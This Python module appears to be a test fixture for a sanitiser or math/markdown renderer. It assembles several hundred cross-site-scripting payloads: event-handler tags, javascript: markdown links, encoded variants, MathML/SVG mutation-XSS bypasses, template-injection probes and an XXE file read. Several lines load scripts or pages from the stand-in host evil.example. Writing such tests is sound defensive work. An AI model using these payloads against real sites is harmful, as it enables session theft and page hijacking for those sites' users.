"""Attacks on whoever prints a stranger's text: each is a line of text that must stay text.

What would run sets `pwned` on the page or leads to HOST, so that a browser can tell. The kinds follow OWASP's cheat
sheet on filter evasion, and the published bypasses of sanitisers by way of MathML and SVG ("mutation XSS").
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

HOST: Final = "evil.example"
RUN: Final = "window.pwned=1"

ELEMENTS: Final = (
    f"<img src=x onerror={RUN}>",
    f'<IMG SRC="https://{HOST}/i.png">',
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="https://{HOST}/x.js"></script>',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src=https://{HOST}/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=https://{HOST}/x.swf>",
    f"<form action=https://{HOST}/><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<base href=https://{HOST}/>",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<div style=background:url(https://{HOST}/x.png)>x</div>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<table background=https://{HOST}/x.png><tr><td>x</table>",
    f"<portal src=https://{HOST}/></portal>",
)
"""What would be foreign on any page."""
_SHORT: Final = ELEMENTS[0], ELEMENTS[2], ELEMENTS[19], ELEMENTS[23]

BREAKOUTS: Final = ('">', "'>", "-->", "</script>", "]]>", "</title>", "</textarea></style></math></svg>", "`>", '\\">')
"""What would end the attribute, comment, element or string that a text stands in."""

MACROS: Final = tuple(
    r"""
    \mathrm{@} \mathrm{\underbar{@}} \text{@} \textbf{@} \textit{@} \textsc{@} \mathbb{@} \mathcal{@} \mathfrak{@}
    \operatorname{@} \operatorname*{@} \mbox{@} \hbox{@} \underbar{@} \overline{@} \sqrt{@} \sqrt[@]{x} \frac{@}{@}
    x_{@} x^{@} \overset{@}{x} \underset{x}{@} \stackrel{@}{x} \color{@}{x} \textcolor{@}{@} \href{@}{@} \url{@}
    \class{@}{x} \style{@}{x} \cssId{@}{x} \unicode{@} \char"@ \tag{@} \label{@} \left@x\right@
    \begin{array}{@}x\end{array} \begin{matrix}@\end{matrix} \begin{cases}@\end{cases} \mathrm{x}@ \hspace{@}x
    \rule{@}{@}x \mathop{@} @ \mathbf{\mathrm{@}}
    \substack{@} \boxed{@} \phantom{@} \not@ \binom{@}{x} \includegraphics{@} \mathchoice{@}{@}{@}{@} \limits_{@}
    """.split()
)
"""Ways for text to stand in a formula; @ is where."""

_TO_SCRIPTS: Final = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](%6Aavascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    f"[x](<javascript:{RUN}>)",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})",
    f"![x](https://{HOST}/x.png)",
    f'![x](/y.png "onerror={RUN}")',
    f'![x" onerror="{RUN}](/y.png)',
    f'[x](/y "onmouseover={RUN}")',
    f"[x](/y' onmouseover='{RUN})",
    f"[x](//{HOST}/)",
    f"[x](/\\{HOST}/)",
    f"[x](/\t/{HOST}/)",
    f"[x](http:{HOST})",
    f'https://a.example/"onmouseover="{RUN}',
    f"https://a.example/<img/src=x/onerror={RUN}>",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"[<img src=x onerror={RUN}>](https://a.example/)",
    f"`<img src=x onerror={RUN}>`",
    f"```<img src=x onerror={RUN}>\n<script>{RUN}</script>\n```",
    f'~~~"><img src=x onerror={RUN}>\nx\n~~~',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"> <script>{RUN}</script>",
    f"# <script>{RUN}</script>",
)
"""Markdown that leads to a script or to another site's picture."""

_OTHERWISE_SPELLED: Final = (
    "&lt;img src=x onerror=" + RUN + "&gt;",
    "&#60;img src=x onerror=" + RUN + "&#62;",
    "&#x3c;img src=x onerror=" + RUN + "&#x3e;",
    "&LT;img src=x onerror=" + RUN + "&GT;",
    "&amp;lt;img src=x onerror=" + RUN + "&amp;gt;",
    "&#0000060img src=x onerror=" + RUN + ">",
    "\uff1cimg src=x onerror=" + RUN + "\uff1e",
    "%3Cimg src=x onerror=" + RUN + "%3E",
    "\\u003cimg src=x onerror=" + RUN + "\\u003e",
    "\\x3cimg src=x onerror=" + RUN + "\\x3e",
    "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
    "<\u200bimg src=x onerror=" + RUN + ">",
    "<img\u00a0src=x onerror=" + RUN + ">",
    "<img/src=x/onerror=" + RUN + ">",
    "<img src=x onerror\u2028=" + RUN + ">",
    "\u202e<img src=x onerror=" + RUN + ">",
    "{{ config }}{% raw %}<img src=x onerror=" + RUN + ">",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %><img src=x onerror=" + RUN + ">",
    '{"@type": "</script><script>' + RUN + '</script>"}',
    "<!--<img src=x onerror=" + RUN + ">-->",
    "<![CDATA[<img src=x onerror=" + RUN + ">]]>",
    "<?xml-stylesheet href='javascript:" + RUN + "'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
"""The same in other letters."""

_OTHER_NAMESPACES: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
    "<math><mtext><table><mglyph><style><math href=javascript:@>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
    "<svg></p><style><a id='</style><img src=x onerror=@>'>",
    "<svg><style><img/src=x onerror=@ //",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><desc><img src=x onerror=@></desc></svg>",
    "<svg><title><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=@></annotation-xml></math>",
    "<math><mi><svg><style><!--</style><img src=x onerror=@>--></style></svg></mi></math>",
    "<math><semantics><annotation encoding='application/x-tex'><img src=x onerror=@></annotation></semantics></math>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>",
    "<xmp><p title='</xmp><img src=x onerror=@>'>",
    "<select><template><img src=x onerror=@></template></select>",
    "<table><caption><svg><title><table><style><img src=x onerror=@></style></table>",
    "<svg><![CDATA[><img src=x onerror=@>]]></svg>",
    "<math><maligngroup><mtext><img src=x onerror=@></math>",
    "<a><svg><style>&lt;img src=x onerror=@&gt;</style></svg></a>",
    "<p><svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=@></svg>#x'></svg>",
    "<math><mglyph><malignmark><img src=x onerror=@>",
)
"""Text that means one thing to a sanitiser and another to a browser; @ is what would run."""


def _all() -> Iterator[str]:
    yield from ELEMENTS
    yield from (breakout + element for breakout, element in product(BREAKOUTS, ELEMENTS[:20]))
    yield from (f"${macro.replace('@', element)}$" for macro, element in product(MACROS, _SHORT[:3]))
    yield from (f"$$x {element}$$" for element in ELEMENTS[::3])
    yield from (f"\\({element}\\) \\[{element}\\]" for element in ELEMENTS[1::3])
    yield from (
        f'$x" onmouseover="{RUN}$',
        f"$\\text{{' onclick='{RUN}}}$",
        "\x0e0\x0f<img src=x>",
        "$x$ \x0e0\x0f \x0e1\x0f",
    )
    yield from _TO_SCRIPTS
    yield from _OTHERWISE_SPELLED
    yield from (text.replace("@", RUN) for text in _OTHER_NAMESPACES)


PAYLOADS: Final = tuple(dict.fromkeys(_all()))
